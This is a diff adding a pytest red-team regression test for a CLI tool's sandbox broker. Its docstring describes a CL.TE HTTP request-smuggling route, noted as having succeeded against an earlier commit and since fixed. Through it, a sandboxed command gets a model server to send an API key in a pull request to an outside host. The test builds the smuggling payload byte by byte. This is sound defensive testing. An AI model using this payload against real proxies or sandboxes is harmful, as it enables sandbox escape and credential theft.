@@ -1,0 +1,93 @@
+"""Getting around the plain-HTTP endpoint gate (adversary round 10, on 15dbc58).
+
+With `sandbox: {network: false}` and a plain-HTTP (local) endpoint, the
+broker reads each request with h11 and carries only the model API's
+(`zapcli.backends.cli_httpgate`). It re-writes what it carries — the
+request line, the headers as they came, the body in h11's framing — so a
+framing trick must live in the headers it passes on.
+
+Route 1 (CL.TE): a request carrying both `Transfer-Encoding: chunked` and
+`Content-Length`. h11 frames the body by the chunks (Transfer-Encoding wins,
+as RFC 9112 says) and passed both headers on, the body re-chunked. A server
+that frames by Content-Length — every server on Python's `http.server`
+(it knows no chunked: KoboldCpp's OpenAI API, adv9's Ollama stand-in) —
+reads the first bytes of the chunked body as the model call's body and the
+rest as a request of its own: `POST /api/pull`, which fetches from any host.
+Status against 15dbc58: SUCCEEDED (the listener got the key). Fixed: the
+gate refuses a request that frames its body twice (the class: a framing
+the gate did not read is never passed on; RFC 9112 §6.1 lets a server
+reject such a request, and an intermediary must not pass both on).
+
+The stand-in endpoint is adv9's (`Endpoint`: Python's http.server, model
+calls carried to the model, `/api/pull` fetching the registry as Ollama
+does); the broker is the real one; the requests are written by hand as a
+command in the sandbox could write them. The outside effect asserted: what
+reached the listener (the registry), which nothing in a sandbox can reach.
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.redteam.test_adv9_endpoint_api import Endpoint
+from zapcli.backends.cli_broker import Broker
+
+KEY = "sk-ant-test-key-0123456789"
+
+
+@pytest.fixture
+def gated(tmp_path: Path, listener: Any):
+    """(the broker's socket for the endpoint with no path, with /v1; the listener)."""
+    model = Endpoint(listener.url)  # its model calls land at the listener too
+    folder = tmp_path / "sockets"
+    folder.mkdir()
+    broker = Broker(folder)
+    port = int(model.url.rsplit(":", 1)[1])
+    try:
+        yield {p: broker.tcp("127.0.0.1", port, p) for p in ("", "/v1")}
+    finally:
+        broker.close()
+        model.close()
+
+
+def _exchange(path: str, data: bytes) -> bytes:
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(10)
+    s.connect(path)
+    s.sendall(data)
+    got = b""
+    try:
+        while chunk := s.recv(65536):
+            got += chunk
+    except TimeoutError:
+        pass
+    s.close()
+    return got
+
+
+def _pull(registry: str) -> bytes:
+    body = json.dumps({"model": f"{registry}/k/{KEY}", "insecure": True}).encode()
+    return (b"POST /api/pull HTTP/1.1\r\nHost: x\r\ncontent-type: application/json\r\n"
+            b"content-length: %d\r\nconnection: close\r\n\r\n%s" % (len(body), body))
+
+
+def _keyed(listener: Any) -> list[dict]:
+    return [h for h in listener.hits if KEY in h["path"]]
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("prefix", ["", "/v1"])
+def test_a_body_framed_twice_smuggles_no_request(gated, listener: Any, prefix: str) -> None:
+    """CL.TE: the gate reads the chunks, a Content-Length server reads the
+    chunk-size line as the body and the chunk's data as its next request."""
+    smuggled = _pull(listener.url.removeprefix("http://"))
+    size_line = b"%x\r\n" % len(smuggled)  # how h11 re-chunks it: one chunk, as it came
+    head = (b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\ncontent-type: application/json\r\n"
+            b"content-length: %d\r\ntransfer-encoding: chunked\r\n\r\n" % len(size_line))
+    said = _exchange(gated[prefix], head + size_line + smuggled + b"\r\n0\r\n\r\n")
+    assert not _keyed(listener), (said, listener.hits)
